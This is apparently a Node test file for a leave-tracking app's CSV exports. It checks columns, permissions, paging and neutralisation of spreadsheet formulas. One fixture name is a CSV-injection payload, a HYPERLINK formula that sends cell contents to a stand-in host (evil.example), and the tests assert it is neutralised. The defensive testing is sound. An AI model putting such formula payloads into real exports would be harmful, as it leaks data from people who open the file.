// CSV exports through HTTP, on SQLite and PostgreSQL: the columns, a row per leave-year part, who may
// export what, and cells that a spreadsheet would run as formulas arriving neutralised.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { bearer, createTestContext, createUser, login, type TestContext } from '../helpers/harness.js'

let ctx: TestContext
let seq = 0
const now = Date.parse('2026-11-16T10:00:00Z')

interface Person {
  id: number
  token: string
}
type Method = 'GET' | 'POST' | 'PATCH'

const call = (method: Method, url: string, who?: Person, payload?: unknown) =>
  ctx.app.inject({ method, url, headers: who ? bearer(who.token) : {}, ...(payload !== undefined ? { payload: payload as object } : {}) })

async function ok<T = Record<string, unknown>>(method: Method, url: string, who: Person, payload?: unknown, status = 200): Promise<T> {
  const res = await call(method, url, who, payload)
  assert.equal(res.statusCode, status, `${method} ${url}: ${res.body}`)
  return res.json() as T
}

async function person(role: 'employee' | 'manager' | 'admin', managerId: number | null, first = 'Rep', last = String(seq + 1)): Promise<Person> {
  const email = `rep${++seq}@example.com`
  const user = await createUser(ctx.db, { email, role, manager_id: managerId, first_name: first, last_name: last })
  return { id: user.id, token: (await login(ctx.app, email)).access }
}

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  const endField = () => {
    row.push(field)
    field = ''
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (c === '"') quoted = false
      else field += c
    } else if (c === '"') quoted = true
    else if (c === ',') endField()
    else if (c === '\r' && text[i + 1] === '\n') {
      endField()
      rows.push(row)
      row = []
      i++
    } else field += c
  }
  if (field !== '' || row.length > 0) {
    endField()
    rows.push(row)
  }
  return rows
}

let admin: Person
let boss: Person
let evil: Person
let plain: Person
let other: Person

before(async () => {
  ctx = await createTestContext({}, { mondayToFriday: true, clock: () => now })
  admin = await person('admin', null)
  await person('admin', null)
  boss = await person('manager', null)
  evil = await person('employee', boss.id, '=HYPERLINK("https://evil.example/?x="&A1,"Click")', 'Line\nBreak')
  plain = await person('employee', boss.id, 'Plain', '-5 minus')
  other = await person('employee', null, 'Out', 'Side')
  const a = await ok<{ id: number }>('POST', '/api/leave-requests', evil, { start_date: '2026-12-30', end_date: '2027-01-04', type: 'VACATION' }, 201)
  await ok('POST', `/api/leave-requests/${a.id}/approve`, boss, {})
  const rejected = await ok<{ id: number }>('POST', '/api/leave-requests', plain, { start_date: '2026-11-20', end_date: '2026-11-20' }, 201)
  await ok('POST', `/api/leave-requests/${rejected.id}/reject`, boss, { comment: 'no' })
  await ok('POST', '/api/leave-requests', plain, { start_date: '2026-11-25', end_date: '2026-11-26', half_day_end: true }, 201)
  await ok('POST', '/api/leave-requests', other, { start_date: '2026-11-25', end_date: '2026-11-25' }, 201)
})
after(() => ctx.close())

describe('CSV exports', () => {
  it('absences: BOM, CRLF, the columns, one row per leave-year part, formulas neutralised, numbers as numbers', async () => {
    const res = await call('GET', '/api/reports/absences.csv?from=2026-11-01&to=2027-01-31', boss)
    assert.equal(res.statusCode, 200)
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
    assert.equal(res.headers['content-disposition'], 'attachment; filename="absences-2026-11-01-2027-01-31.csv"')
    assert.ok(res.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'a UTF-8 BOM')
    const text = res.body.replace(/^\uFEFF/, '')
    assert.ok(text.endsWith('\r\n') && !/[^\r]\n/.test(text.replaceAll('"Line\nBreak"', '')), 'records end in CRLF; the only bare LF is inside its quoted field')
    const [header, ...rows] = parseCsv(text)
    assert.deepEqual(header, ['user_id', 'email', 'first_name', 'last_name', 'type', 'status', 'start_date', 'end_date', 'half_day_start', 'half_day_end', 'days', 'hours'])
    const evils = rows.filter((r) => r[0] === String(evil.id))
    assert.deepEqual(evils.map((r) => [r[6], r[7], r[10], r[11]]), [['2026-12-30', '2026-12-31', '2', '16'], ['2027-01-01', '2027-01-04', '2', '16']], 'split at the leave year')
    assert.equal(evils[0]![2], `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, 'a formula arrives as text')
    assert.equal(evils[0]![3], 'Line\nBreak', 'a lone LF stays inside its quoted field')
    assert.ok(text.includes('"Line\nBreak"'))
    const plains = rows.filter((r) => r[0] === String(plain.id))
    assert.deepEqual(plains.map((r) => [r[3], r[5], r[9], r[10]]), [["'-5 minus", 'PENDING', 'true', '1.5']], 'rejected requests are left out; a minus sign is neutralised')
    assert.ok(!rows.some((r) => r[0] === String(other.id)), 'a manager exports their reports only')
    assert.ok(/,2,16\r\n/.test(text), 'numbers are written bare')

    const withRejected = parseCsv((await call('GET', '/api/reports/absences.csv?from=2026-11-01&to=2027-01-31&status=REJECTED', boss)).body.replace(/^\uFEFF/, ''))
    assert.deepEqual(withRejected.slice(1).map((r) => r[5]), ['REJECTED'])
    assert.equal((await call('GET', '/api/reports/absences.csv?status=MAYBE', boss)).statusCode, 400)
    const all = parseCsv((await call('GET', '/api/reports/absences.csv?from=2026-11-01&to=2027-01-31', admin)).body.replace(/^\uFEFF/, ''))
    assert.ok(all.some((r) => r[0] === String(other.id)), 'admins export everyone')
  })

  it('pages through the rows in keyset batches: 2,500 requests, many on one date, each exactly once', async () => {
    const bulk = await person('employee', boss.id, 'Bulk', 'Loaded')
    const t = Date.parse('2026-11-02T00:00:00Z')
    for (let i = 0; i < 2500; i += 500) {
      const rows = Array.from({ length: 500 }, (_, k) => ({
        user_id: bulk.id, start: t, end: t + 86_400_000, description: '', type: 'UNPAID', status: 'APPROVED' as const,
        decided_by: null, decided_at: t, decision_comment: '', start_date: `2026-11-0${2 + ((i + k) % 5)}`, end_date: '2026-11-06',
        half_day_start: 0, half_day_end: 0, time_zone: 'UTC', days: 1, hours: 8, day_counts: '[1000]', uid: `bulk-${i + k}`, created_at: t, updated_at: t,
      }))
      await ctx.db.insertInto('leave_requests').values(rows).execute()
    }
    const rows = parseCsv((await call('GET', '/api/reports/absences.csv?from=2026-11-01&to=2026-11-30&status=APPROVED', boss)).body.replace(/^\uFEFF/, '')).slice(1)
    const bulkRows = rows.filter((r) => r[0] === String(bulk.id))
    assert.equal(bulkRows.length, 2500)
    const starts = bulkRows.map((r) => r[6]!)
    assert.deepEqual(starts, [...starts].sort(), 'by start date')
    await ctx.db.deleteFrom('leave_requests').where('user_id', '=', bulk.id).execute()
    await ok('POST', `/api/users/${bulk.id}/deactivate`, admin, {})
  })

  it('a HEAD request or a client that hangs up ends the export’s reading (nothing runs on after the answer)', async () => {
    const head = await ctx.app.inject({ method: 'HEAD', url: '/api/reports/absences.csv?from=2026-01-01&to=2027-12-31&status=APPROVED,PENDING', headers: bearer(admin.token) })
    assert.equal(head.statusCode, 200)
    assert.equal(head.body, '')
    // Give a reading that was left running the time to fail; the runner reports activity after a test.
    await new Promise((resolve) => setTimeout(resolve, 50))
  })

  it('employees may not export; managers may not export everyone', async () => {
    assert.equal((await call('GET', '/api/reports/absences.csv', plain)).statusCode, 403)
    assert.equal((await call('GET', '/api/reports/balances.csv', plain)).statusCode, 403)
    assert.equal((await call('GET', '/api/reports/absences.csv?scope=all', boss)).statusCode, 403)
    assert.equal((await call('GET', '/api/reports/absences.csv')).statusCode, 401)
    assert.equal((await call('GET', '/api/reports/absences.csv?from=2026-12-01&to=2026-11-01', boss)).statusCode, 400)
  })

  it('balances: one row per person and counting type with the balance fields', async () => {
    await ok('PATCH', '/api/leave-types/VACATION', admin, { counts_against_balance: true, annual_allowance: 25 })
    const rows = parseCsv((await call('GET', '/api/reports/balances.csv?as_of=2026-12-31', boss)).body.replace(/^\uFEFF/, ''))
    assert.deepEqual(rows[0], [
      'user_id', 'email', 'first_name', 'last_name', 'type', 'year_start', 'year_end', 'allowance', 'accrued', 'carried_over',
      'carried_over_expires', 'expired', 'adjustments', 'used', 'pending', 'balance', 'available',
    ])
    const evils = rows.find((r) => r[0] === String(evil.id))!
    assert.deepEqual([evils[4], evils[5], evils[7], evils[13], evils[15]], ['VACATION', '2026-01-01', '25', '2', '23'])
    assert.equal(rows.length - 1, 2, 'the manager’s two reports')
  })
})
